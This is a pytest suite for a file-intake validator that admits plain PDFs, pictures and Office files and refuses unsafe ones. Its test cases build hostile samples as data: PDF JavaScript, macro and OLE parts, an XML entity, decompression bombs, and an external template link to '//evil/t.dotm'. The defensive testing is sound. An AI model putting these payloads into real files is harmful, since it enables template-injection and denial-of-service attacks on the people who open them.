"""A file that is to prove a result is hostile until it was looked at: what it is follows from what is in it."""

import zipfile
from io import BytesIO

import pytest
from openpyxl import Workbook
from PIL import Image

from gatezone.documents.layout.docx import docx_of
from gatezone.documents.layout.pdf import pdf_of
from gatezone.files.looking import FileTooLarge, NotAFileKept
from gatezone.files.office_files import NotAnOfficeFile, OfficeFileActs, OfficeFileLocked
from gatezone.files.pdfs import NotAPdf, PdfActs
from gatezone.files.pictures import NotAPicture, TooManyDots
from gatezone.files.roles import MOST_BYTES
from gatezone.files.taking import our_own
from gatezone.kernel.errors import Invalid
from gatezone.kernel.event import canonical
from letters import REPORT


def picture(form: str) -> bytes:
    out = BytesIO()
    Image.new("RGB", (200, 200), "white").save(out, form)
    return out.getvalue()


def workbook() -> bytes:
    out = BytesIO()
    Workbook().save(out)
    return out.getvalue()


def with_part(content: bytes, name: str, held: bytes = b"x") -> bytes:
    """An archive with one part more, or with another one under a name."""
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.namelist():
            if part != name:
                new.writestr(part, old.read(part))
        new.writestr(name, held)
    return out.getvalue()


def locked(content: bytes) -> bytes:
    """An archive that says of its parts that they are encrypted."""
    central = content.index(b"PK\x01\x02")
    return content[: central + 8] + b"\x01" + content[central + 9 :]


RELATED = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
)
FETCHES = (
    RELATED % b'<Relationship Id="a" Type="x/attachedTemplate" Target="//evil/t.dotm" TargetMode="External"/>'
)
LINKS = (
    RELATED % b'<Relationship Id="a" Type="x/hyperlink" Target="https://example.org" TargetMode="External"/>'
)
MACROS = b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
ENTITY = b'<!DOCTYPE l [<!ENTITY a "aaaa">]><Types/>'


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (pdf_of(REPORT), "pdf"),
        (picture("JPEG"), "jpeg"),
        (picture("PNG"), "png"),
        (docx_of(REPORT), "docx"),
        (workbook(), "xlsx"),
        (with_part(docx_of(REPORT), "word/_rels/more.xml.rels", LINKS), "docx"),
    ],
)
def test_a_file_is_kept_as_it_came_and_known_by_its_digest(content, kind):
    found = our_own(content, "evidence")
    assert (found.look.kind, found.content) == (kind, content)
    assert found.sha256 in canonical(found)
    assert len(canonical(found)) < 250


@pytest.mark.parametrize(
    ("content", "fault"),
    [
        (b"", NotAFileKept),
        (b"<html><script>alert(1)</script></html>", NotAFileKept),
        (b"MZ\x90\x00", NotAFileKept),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), NotAFileKept),
        (picture("WEBP"), NotAFileKept),
        (b"%PDF-1.7 without an end", NotAPdf),
        (b"%PDF-1.7\n<</S/JavaScript/JS(x)>>\n%%EOF", PdfActs),
        (picture("PNG")[:-40], NotAPicture),
        (b"\xff\xd8\xff<html>", NotAPicture),
        (b"PK\x03\x04 and nothing else", NotAnOfficeFile),
        (with_part(workbook(), "xl/worksheets/sheet2.xml", bytes(50_000_000)), NotAnOfficeFile),
        (with_part(workbook(), "[Content_Types].xml", ENTITY), NotAnOfficeFile),
        (with_part(workbook(), "[Content_Types].xml", b"<Types/>"), NotAnOfficeFile),
        (locked(workbook()), OfficeFileLocked),
        (with_part(docx_of(REPORT), "[Content_Types].xml", MACROS), OfficeFileActs),
        (with_part(workbook(), "xl/vbaProject.bin"), OfficeFileActs),
        (with_part(docx_of(REPORT), "word/embeddings/oleObject1.bin"), OfficeFileActs),
        (with_part(docx_of(REPORT), "word/_rels/settings.xml.rels", FETCHES), OfficeFileActs),
    ],
)
def test_a_file_that_is_broken_or_acts_or_is_of_no_kind_is_refused_in_a_word(content, fault):
    with pytest.raises(fault) as no:
        our_own(content, "evidence")
    assert isinstance(no.value, Invalid)


def test_a_picture_that_unfolds_without_end_is_refused_before_it_is_decoded():
    out = BytesIO()
    Image.new("1", (30_000, 30_000)).save(out, "PNG")
    with pytest.raises(TooManyDots):
        our_own(out.getvalue(), "evidence")


def test_a_file_that_is_too_large_is_refused_before_it_is_looked_at():
    with pytest.raises(FileTooLarge):
        our_own(b"%PDF-" + bytes(8_000_000), "evidence")
    assert MOST_BYTES == 8_000_000
